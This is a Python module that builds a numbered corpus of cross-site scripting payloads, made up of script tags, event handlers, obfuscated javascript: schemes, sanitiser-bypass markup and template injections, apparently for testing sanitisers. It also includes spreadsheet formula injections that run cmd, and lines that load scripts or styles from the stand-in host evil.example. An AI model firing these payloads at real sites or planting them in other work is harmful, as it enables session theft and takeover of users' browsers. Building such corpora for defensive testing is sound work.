"""Payloads of cross-site scripting: what has run in browsers or got past sanitisers, systematically varied.

Each calls `alert` with its own number where it runs, so that one that does can be named.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count

ELEMENTS_THAT_LOAD = (
    "img",
    "image",
    "svg",
    "video",
    "audio",
    "input type=image",
    "iframe",
    "object",
    "embed",
    "body",
    "link rel=stylesheet",
    "script",
)
ELEMENTS_OF_ALL_KINDS = (
    "a", "b", "p", "div", "span", "sub", "sup", "u", "code", "q", "ins", "ul", "li", "details open", "marquee", "select autofocus",
    "textarea autofocus", "button autofocus", "form", "table", "math", "x-y", "style", "dialog open",
)  # fmt: skip
HANDLERS = (
    "onerror", "onload", "onfocus", "onmouseover", "onpointerover", "ontoggle", "onanimationstart", "onbegin",
    "onstart", "onpageshow", "onhashchange", "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange",
)  # fmt: skip
SEPARATORS = (" ", "/", "\t", "\x0c", "/ /", '"" ', " x=1 ")
QUOTES = ("{}", '"{}"', "'{}'", "`{}`", "&#34;{}&#34;")
CALLS = (
    "alert({n})",
    "alert`{n}`",
    "top['al'+'ert']({n})",
    "&#97;lert({n})",
    "(alert)({n})",
    "\\u0061lert({n})",
    "alert&lpar;{n}&rpar;",
)
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\tscript:", "java&#10;script:", "&#106;avascript:",
    "javascript&colon;", "javascript&#58;", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A", "javascript://%0a", "vbscript:",
    "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "//evil.example/", "\\\\evil.example\\", "feed:javascript:",
    "view-source:javascript:", "blob:javascript:", "livescript:",
)  # fmt: skip
WHOLE = (
    "<script>alert({n})</script>", "<SCRIPT>alert({n})</SCRIPT>", "<script >alert({n})</script >", "<script\n>alert({n})</script>",
    "<script/x>alert({n})</script>", "<script>alert({n})", "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<<script>alert({n})//<</script>", "<script src=//evil.example/x.js></script>", "<script src=data:,alert({n})></script>",
    "<script type=module>alert({n})</script>", "<svg><script>alert({n})</script></svg>", "<svg><script href=data:,alert({n}) />",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert({n})>",
    "<svg><a xlink:href=javascript:alert({n})><text y=20>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x>",
    "<svg><foreignObject><iframe srcdoc='<script>alert({n})</script>'>", "<math href=javascript:alert({n})>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert({n})&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert({n})>'>", "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>", "<template><img src=x onerror=alert({n})></template>",
    "<title><img src=x onerror=alert({n})></title>", "</title><script>alert({n})</script>", "</textarea><script>alert({n})</script>",
    "</style><script>alert({n})</script>", "</script><script>alert({n})</script>", "--><script>alert({n})</script>",
    "]]><script>alert({n})</script>", "<!--><script>alert({n})</script>", "<!--[if IE]><script>alert({n})</script><![endif]-->",
    "<![CDATA[<script>alert({n})</script>]]>", "<?xml-stylesheet href='javascript:alert({n})'?>", "<!ENTITY x '<script>alert({n})</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=data:text/html,x>",
    "<style>@import '//evil.example/x.css'</style>", "<style>*{{background:url(//evil.example)}}</style>",
    "<div style='background:url(javascript:alert({n}))'>x</div>", "<div style='width:expression(alert({n}))'>x</div>",
    "<p style=position:fixed;inset:0>x</p>", "<iframe src=javascript:alert({n})></iframe>", "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<object data=javascript:alert({n})></object>", "<embed src=javascript:alert({n})>", "<applet code=x></applet>",
    "<form action=javascript:alert({n})><button>x</button></form>", "<button formaction=javascript:alert({n})>x</button>",
    "<isindex action=javascript:alert({n}) type=submit>", "<input onfocus=alert({n}) autofocus>", "<keygen autofocus onfocus=alert({n})>",
    "<video><source onerror=alert({n})></video>", "<picture><source srcset=x onerror=alert({n})><img src=x onerror=alert({n})></picture>",
    "<img src='x` `<script>alert({n})</script>'` `>", "<img src=x:alert(alt) onerror=eval(src) alt={n}>", "<img/src/onerror=alert({n})>",
    "<img \"\"\"><script>alert({n})</script>\">", "<a href=x onclick=alert({n})>x</a>", "<b onmouseover=alert({n})>x</b>",
    "<a id=location href=javascript:alert({n})>x</a>", "<form name=document><input name=cookie></form>", "<a name=alert>x</a>",
    '" onmouseover=alert({n}) x="', "' onmouseover=alert({n}) x='", '"><script>alert({n})</script>', "'><script>alert({n})</script>",
    '" autofocus onfocus=alert({n}) tabindex=1 x="', '"/><svg onload=alert({n})>', "`-alert({n})-`", "';alert({n})//", '";alert({n})//',
    "\\';alert({n})//", "</script><svg onload=alert({n})>", "\u2028alert({n})\u2029", "{{{{constructor.constructor('alert({n})')()}}}}",
    "${{alert({n})}}", "<%= alert({n}) %>", "{{% print(alert({n})) %}}", "#{{alert({n})}}", "[[${{alert({n})}}]]",
    "＜script＞alert({n})＜/script＞", "\ufeff<script>alert({n})</script>", "\u202e<script>alert({n})</script>", "<\u0000script>alert({n})</script>",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-", "%3Cscript%3Ealert({n})%3C/script%3E", "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert({n})&amp;lt;/script&amp;gt;", "\\x3cscript\\x3ealert({n})\\x3c/script\\x3e", "\\u003cscript\\u003ealert({n})",
    "=HYPERLINK(\"http://evil.example\",\"x{n}\")", "+cmd|' /C calc'!A{n}", "@SUM({n}+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A{n}",
    "\t=1+{n}", "=IMPORTXML(CONCAT(\"http://evil.example\"),{n})",
)  # fmt: skip
MARKDOWN = (
    "[x]({s}alert({n}))", "[x](<{s}alert({n})>)", "[x]({s}alert({n}) \"t\")", "<{s}alert({n})>", "[x\\]]({s}alert({n}))",
    "<a href=\"{s}alert({n})\">x</a>", "<a href={s}alert({n})>x</a>",
)  # fmt: skip


def payloads() -> list[str]:
    """Give the corpus, the same each time; no two are equal, each is one line."""
    number = count(1)
    return [text.replace("\n", " ") for text in dict.fromkeys(_all(number))]


def _all(number: Iterator[int]) -> Iterator[str]:
    for whole in WHOLE:
        yield whole.format(n=next(number))
    for pattern in MARKDOWN:
        for scheme in SCHEMES:
            yield pattern.format(s=scheme, n=next(number))
    for index, element in enumerate((*ELEMENTS_THAT_LOAD, *ELEMENTS_OF_ALL_KINDS)):
        for place, handler in enumerate(HANDLERS):
            turn = index + place
            call = CALLS[turn % len(CALLS)].format(n=next(number))
            quoted = QUOTES[turn % len(QUOTES)].format(call)
            yield f"<{element}{SEPARATORS[turn % len(SEPARATORS)]}src=x {handler}={quoted}>x"
